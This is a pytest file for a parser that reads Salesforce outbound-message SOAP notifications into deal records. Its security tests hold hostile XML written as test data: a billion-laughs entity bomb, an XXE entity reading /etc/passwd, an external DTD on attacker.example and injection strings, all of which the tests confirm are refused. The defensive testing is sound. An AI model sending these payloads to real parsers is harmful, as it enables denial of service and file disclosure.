"""Salesforce's outbound messages: each Notification read into DealNews, another org's refused
(403), anything Salesforce would not send refused as unreadable (400), and the acknowledgement
that stops Salesforce's retries."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from decimal import Decimal
from xml.etree import ElementTree

import pytest

from bot.crm.salesforce import (
    ACKNOWLEDGEMENT,
    ACKNOWLEDGEMENT_CONTENT_TYPE,
    WrongOrg,
    read_outbound_message,
)
from bot.deal_news import SALESFORCE, DealNews, UnreadableNews
from tests.support.salesforce_messages import ORG_ID, ORG_ID_15, Opportunity, notification, outbound_message

DEAL_ID = "0065w000023STAmAAO"
NOTIFICATION_ID = "04l5w00005286hAAAQ"


def read(*opportunities: Opportunity, org_id: str = ORG_ID_15, **message: object) -> list[DealNews]:
    batch = read_outbound_message(outbound_message(*opportunities, **message), org_id=org_id)
    assert batch.skipped == []
    return batch.news


def skipped(body: bytes) -> str:
    """Why the one unreadable notification of a message beside a readable one was skipped."""
    batch = read_outbound_message(body, org_id=ORG_ID)
    assert [news.deal_id for news in batch.news] == [DEAL_ID]
    [why] = batch.skipped
    return why


def read_one(**fields: object) -> DealNews:
    [news] = read(Opportunity(**fields))
    return news


def unreadable(body: bytes) -> str:
    started = time.monotonic()
    with pytest.raises(UnreadableNews) as caught:
        read_outbound_message(body, org_id=ORG_ID)
    assert time.monotonic() - started < 1, "refused slowly: something was expanded"
    return str(caught.value)


def test_a_closed_lost_opportunity_is_read_field_by_field():
    news = read_one(
        id=DEAL_ID,
        notification_id=NOTIFICATION_ID,
        name="  Acme Corp renewal ",
        amount="45000.0",
        currency="EUR",
        stage="Closed Lost",
        last_modified="2026-11-23T11:58:04.000Z",
        loss_reason="Price",
        owner_email="dana@example.com",
        extra={"CloseDate": "2026-11-23", "OwnerId": "0055w00000BhqR0AAJ"},
    )
    assert news == DealNews(
        crm=SALESFORCE,
        deal_id=DEAL_ID,
        key=NOTIFICATION_ID,
        changed_at=datetime(2026, 11, 23, 11, 58, 4, tzinfo=UTC),
        stage="Closed Lost",
        lost=True,
        deal_name="Acme Corp renewal",
        amount=Decimal("45000.0"),
        currency="EUR",
        reason="Price",
        main_reason="price",  # what a lost deal with no autopsy counts as
        owner_email="dana@example.com",
        deal_url=f"https://acme.my.salesforce.com/lightning/r/Opportunity/{DEAL_ID}/view",
    )


def test_the_optional_buyer_contact_field_names_the_buyer_contact():
    assert read_one(buyer_contact=" Jo Buyer ").contact_name == "Jo Buyer"
    assert read_one(buyer_contact="z" * 400).contact_name == "z" * 150
    assert read_one().contact_name is None


def test_fields_the_outbound_message_does_not_send_are_none():
    news = read_one(
        name=None, amount=None, stage=None, is_closed=None, is_won=None, loss_reason=None, owner_email=None
    )
    assert (news.deal_name, news.amount, news.currency, news.stage) == (None, None, None, None)
    assert (news.reason, news.owner_email, news.owner_user_id, news.pipeline) == (None, None, None, None)


def test_without_its_flags_an_opportunity_is_lost_because_the_flow_chose_it():
    assert read_one(is_closed=None, is_won=None).lost is True


@pytest.mark.parametrize(
    ("is_closed", "is_won"), [("true", "true"), ("false", "false"), (None, "true"), ("0", None)]
)
def test_flags_that_say_it_was_not_lost_overrule_the_flow(is_closed, is_won):
    assert read_one(is_closed=is_closed, is_won=is_won).lost is False


def test_without_last_modified_date_it_changed_when_it_arrived():
    before = datetime.now(UTC)
    changed_at = read_one(last_modified=None).changed_at
    assert before <= changed_at <= datetime.now(UTC) and changed_at.tzinfo is UTC


def test_a_last_modified_date_in_another_zone_is_kept_in_utc():
    assert read_one(last_modified="2026-11-23T06:58:04-05:00").changed_at == datetime(
        2026, 11, 23, 11, 58, 4, tzinfo=UTC
    )


def test_ten_million_written_as_a_double_is_ten_million():
    assert read_one(amount="1.0E7").amount == Decimal("10000000")


def test_several_notifications_become_several_news_in_order():
    opportunities = [Opportunity(name=f"Deal {n}") for n in range(3)]
    news = read(*opportunities)
    assert [n.deal_name for n in news] == ["Deal 0", "Deal 1", "Deal 2"]
    assert [n.deal_id for n in news] == [o.id for o in opportunities]
    assert [n.key for n in news] == [o.notification_id for o in opportunities]


def test_a_hundred_notifications_are_read():
    assert len(read(*(Opportunity() for _ in range(100)))) == 100


@pytest.mark.parametrize(
    ("sent", "configured"),
    [
        (ORG_ID, ORG_ID_15),
        (ORG_ID, ORG_ID),
        (ORG_ID_15, ORG_ID),
        (ORG_ID_15, ORG_ID_15),
        (ORG_ID, f" {ORG_ID}\n"),
    ],
)
def test_the_org_id_matches_in_its_15_or_18_character_form(sent, configured):
    assert len(read_outbound_message(outbound_message(org_id=sent), org_id=configured).news) == 1


@pytest.mark.parametrize(
    "configured",
    [
        "00D5w000004qGTP",  # another org
        "00D5w000004qgto",  # the same characters in another case: ids are case-sensitive
        "00D5w000004qGT",  # too short to be an org id
        "",  # SALESFORCE_ORG_ID left empty matches nothing
    ],
)
def test_another_org_is_refused_as_wrong_org(configured):
    with pytest.raises(WrongOrg):
        read_outbound_message(outbound_message(), org_id=configured)


def test_another_org_is_refused_before_its_notifications_are_read():
    body = outbound_message(org_id="00D000000000001AAA", notifications="<Notification/>" * 101)
    with pytest.raises(WrongOrg):
        read_outbound_message(body, org_id=ORG_ID)


def test_wrong_org_is_not_unreadable_news():
    assert not issubclass(WrongOrg, UnreadableNews)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml at all",
        b'{"OrganizationId": "00D5w000004qGTOEA2"}',
        b"<soapenv:Envelope xmlns:soapenv='http://schemas.xmlsoap.org/soap/envelope/'><soapenv:Body>",
        b"<notifications xmlns='http://soap.sforce.com/2005/09/outbound'/>",  # no envelope
        b"<soapenv:Envelope xmlns:soapenv='http://schemas.xmlsoap.org/soap/envelope/'><soapenv:Body>"
        b"<notifications/></soapenv:Body></soapenv:Envelope>",  # notifications in no namespace
        outbound_message().replace(b"OrganizationId", b"OrgId"),
        outbound_message(notifications=""),
    ],
    ids=["empty", "text", "json", "unclosed", "no-envelope", "wrong-root", "no-org-id", "no-notification"],
)
def test_what_is_not_a_notifications_envelope_is_unreadable(body):
    unreadable(body)


@pytest.mark.parametrize(
    "opportunity",
    [
        Opportunity(notification_id=None),
        Opportunity(id=None),
        Opportunity(id="006'><script>"),
        Opportunity(amount="twelve"),
        Opportunity(amount="NaN"),
        Opportunity(amount="Infinity"),
        Opportunity(amount="1E+999999999"),
        Opportunity(amount="1" * 100),
        Opportunity(is_closed="yes"),
        Opportunity(last_modified="last Tuesday"),
        Opportunity(currency="euros"),
    ],
    ids=[
        "no-notification-id",
        "no-opportunity-id",
        "not-an-id",
        "amount-words",
        "amount-nan",
        "amount-infinity",
        "amount-huge",
        "amount-too-long",
        "flag-yes",
        "date-words",
        "currency-words",
    ],
)
def test_a_notification_salesforce_would_not_send_is_skipped_and_the_rest_read(opportunity):
    good = notification(Opportunity(id=DEAL_ID, notification_id="04l5w00005286hBBBQ"))
    why = skipped(outbound_message(notifications=good + notification(opportunity)))
    assert why.startswith("notification 2 of 2: ") and len(why) < 160


def test_a_notification_without_its_sobject_is_skipped():
    bare = f"<Notification><Id>{NOTIFICATION_ID}</Id></Notification>"
    assert "without its sObject" in skipped(
        outbound_message(notifications=bare + notification(Opportunity(id=DEAL_ID)))
    )


def test_a_notification_about_another_object_is_skipped_not_refused():
    """An outbound message set up on Accounts: acknowledged, so Salesforce does not resend it for a day."""
    account = notification(Opportunity(notification_id="04l5w00005286hCCCQ"), sobject_type="sf:Account")
    why = skipped(outbound_message(notifications=account + notification(Opportunity(id=DEAL_ID))))
    assert why.endswith("is about Account, not an Opportunity")


def test_more_than_a_hundred_notifications_are_unreadable():
    assert "101" in unreadable(outbound_message(*(Opportunity() for _ in range(101))))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""


def with_doctype(doctype: bytes, name: str) -> bytes:
    """A real outbound message whose opportunity's name is an entity the DTD defines."""
    body = outbound_message(Opportunity(name=f"NAME_{name}"))
    body = body.replace(b"NAME_" + name.encode(), b"&" + name.encode() + b";")
    return body.replace(b'<?xml version="1.0" encoding="UTF-8"?>\n', doctype)


def test_a_billion_laughs_is_unreadable_quickly_and_never_expanded():
    assert "lol" not in unreadable(with_doctype(BILLION_LAUGHS, "lol9"))


def test_an_external_entity_is_unreadable_and_the_file_never_read():
    doctype = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    assert "root:" not in unreadable(with_doctype(doctype, "xxe"))


def test_an_external_dtd_is_unreadable():
    doctype = (
        b'<?xml version="1.0"?>\n<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">\n'
    )
    unreadable(outbound_message().replace(b'<?xml version="1.0" encoding="UTF-8"?>\n', doctype))


def test_even_an_empty_dtd_is_unreadable():
    unreadable(
        outbound_message().replace(
            b"\n<soapenv:Envelope", b"\n<!DOCTYPE soapenv:Envelope []>\n<soapenv:Envelope"
        )
    )


def test_markup_and_mrkdwn_are_kept_verbatim_as_text():
    news = read_one(
        name="<b>Acme</b> & Sons <!channel>",
        loss_reason="Price <@U0EVIL> *cheaper* &amp; ]]>",
        stage="Closed <Lost>",
        owner_email="dana+<x>@example.com",
    )
    assert news.deal_name == "<b>Acme</b> & Sons <!channel>"
    assert news.reason == "Price <@U0EVIL> *cheaper* &amp; ]]>"
    assert news.stage == "Closed <Lost>"
    assert news.owner_email == "dana+<x>@example.com"


def test_long_text_is_cut_to_its_limit():
    news = read_one(name="N" * 400, loss_reason="R" * 4000, owner_email="e" * 300, stage="S" * 300)
    assert (len(news.deal_name), len(news.reason), len(news.owner_email), len(news.stage)) == (
        150,
        500,
        254,
        255,
    )


def test_blank_text_is_none():
    assert read_one(name="   ", loss_reason="\n").deal_name is None


def test_xsi_nil_is_none():
    body = outbound_message(Opportunity(name="NIL")).replace(
        b"<sf:Name>NIL</sf:Name>", b'<sf:Name xsi:nil="true"/>'
    )
    [news] = read_outbound_message(body, org_id=ORG_ID).news
    assert news.deal_name is None


@pytest.mark.parametrize(
    "instance",
    [
        "http://acme.my.salesforce.com",  # not https
        "https://acme.my.salesforce.com.attacker.example",
        "https://attacker.example",
        "https://user@acme.my.salesforce.com",
        "https://acme.my.salesforce.com:8443",
        "not a url",
    ],
)
def test_no_link_unless_the_org_is_on_a_salesforce_host(instance):
    [news] = read(instance=instance)
    assert news.deal_url is None


def test_an_instance_host_gives_its_link():
    [news] = read(Opportunity(id=DEAL_ID), instance="https://ap5.salesforce.com")
    assert news.deal_url == f"https://ap5.salesforce.com/lightning/r/Opportunity/{DEAL_ID}/view"


def test_the_session_id_is_never_read():
    [news] = read(session_id="00D5w000004qGTO!AQ4AQLive.Session")
    assert "Session" not in repr(news)


def test_the_acknowledgement_is_soap_with_ack_true_in_the_outbound_namespace():
    root = ElementTree.fromstring(ACKNOWLEDGEMENT)
    assert root.tag == "{http://schemas.xmlsoap.org/soap/envelope/}Envelope"
    [body] = root
    assert body.tag == "{http://schemas.xmlsoap.org/soap/envelope/}Body"
    [response] = body
    assert response.tag == "{http://soap.sforce.com/2005/09/outbound}notificationsResponse"
    [ack] = response
    assert (ack.tag, ack.text) == ("{http://soap.sforce.com/2005/09/outbound}Ack", "true")
    assert ACKNOWLEDGEMENT_CONTENT_TYPE == "text/xml; charset=utf-8"
    ACKNOWLEDGEMENT.decode("utf-8")


def test_a_non_ascii_org_id_is_another_org_not_a_crash():
    with pytest.raises(WrongOrg):
        read_outbound_message(outbound_message(org_id="00D5w000004qGT\u00d6"), org_id=ORG_ID)
